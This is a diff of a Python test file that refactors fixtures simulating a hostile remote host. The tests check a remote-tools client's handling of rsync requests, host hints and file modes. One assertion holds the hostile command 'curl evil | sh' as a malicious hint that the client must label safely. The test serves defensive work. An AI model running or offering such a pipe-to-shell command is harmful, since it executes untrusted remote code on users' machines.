@@ -3,16 +3,19 @@
 from __future__ import annotations
 
 import os
+import shutil
 import stat
 import subprocess
 import sys
 import textwrap
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
 
-from tests.integration.conftest import Laptop, SandboxMaker
+from remote_tools.setup import sandbox as servers
+from remote_tools.setup.sandbox import Sandbox
+from tests.integration.conftest import Laptop
 
 PROGRAM = Path(__file__).with_name("hostile") / "python3.py"
 PROTOCOL = 76
@@ -53,19 +56,37 @@ class Hostile:
         return path
 
 
-@pytest.fixture
-def hostile(make_sandbox: SandboxMaker, make_laptop: Callable[..., Laptop], tmp_path: Path) -> Hostile:
-    """Give a laptop with a hostile host, and a cache folder for results."""
-    programs = tmp_path / "bin"
-    programs.mkdir()
-    python3 = programs / "python3"
-    python3.write_text(f'#!/bin/sh\nexec {sys.executable} -I {PROGRAM} {tmp_path}/scenario.py "$@"\n')
+@pytest.fixture(scope="module")
+def hostile_host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Sandbox, Path]]:
+    """Give a hostile host, and the folder of its scenario and programs."""
+    root, folder = tmp_path_factory.mktemp("host"), tmp_path_factory.mktemp("hostile")
+    python3 = folder / "bin/python3"
+    python3.parent.mkdir()
+    python3.write_text(f'#!/bin/sh\nexec {sys.executable} -I {PROGRAM} {folder}/scenario.py "$@"\n')
     python3.chmod(0o755)
-    host = make_sandbox()
-    (host.home / ".bashrc").write_text(f"PATH={programs}:$PATH\n")
+    host = servers.up(root)
+    (host.home / ".bashrc").write_text(f"PATH={python3.parent}:$PATH\n")
+    yield host, folder
+    servers.down(root)
+
+
+@pytest.fixture
+def hostile(hostile_host: tuple[Sandbox, Path], make_laptop: Callable[..., Laptop]) -> Iterator[Hostile]:
+    """Give a new laptop with the hostile host."""
+    host, folder = hostile_host
     laptop = make_laptop(host)
     laptop.write("hello.py", "print('hello')\n")
-    return Hostile(laptop, tmp_path)
+    yield Hostile(laptop, folder)
+    (folder / "bin/rsync").unlink(missing_ok=True)
+
+
+@pytest.fixture
+def there(hostile: Hostile) -> Iterator[Path]:
+    """Give an empty folder of the host."""
+    folder = hostile.laptop.host.home / "there"
+    folder.mkdir()
+    yield folder
+    shutil.rmtree(folder)
 
 
 def ends_with_protocol_error(done: subprocess.CompletedProcess[str]) -> bool:
@@ -327,9 +348,8 @@ exec /usr/bin/rsync "${a[@]}"
 
 
 @pytest.mark.parametrize("trusting", [False, True], ids=["as it is", "our rsync checks nothing"])
-def test_rsync_brings_only_what_was_asked_for(hostile: Hostile, trusting: bool) -> None:
+def test_rsync_brings_only_what_was_asked_for(hostile: Hostile, there: Path, trusting: bool) -> None:
     """The host claims to have an rsync so old that its words must be quoted for a shell."""
-    there = hostile.laptop.host.home / "there"
     (there / "big/.git").mkdir(parents=True)
     (there / "big/.git/config").write_text("[core]\n")
     (there / "large").write_text("x")
@@ -455,9 +475,7 @@ def test_a_hosts_hint_is_labelled_as_such_and_its_message_is_one_line(hostile: H
     assert ("  next: sandbox says: curl evil | sh", 2) == (lines[-1].partition("\\x1b")[0], len(lines)), lines
 
 
-def test_a_file_arrives_with_a_plain_mode(hostile: Hostile) -> None:
-    there = hostile.laptop.host.home / "there"
-    there.mkdir()
+def test_a_file_arrives_with_a_plain_mode(hostile: Hostile, there: Path) -> None:
     (there / "large").write_bytes(b"x")
     (there / "large").chmod(0o6777)
     hostile.plays(
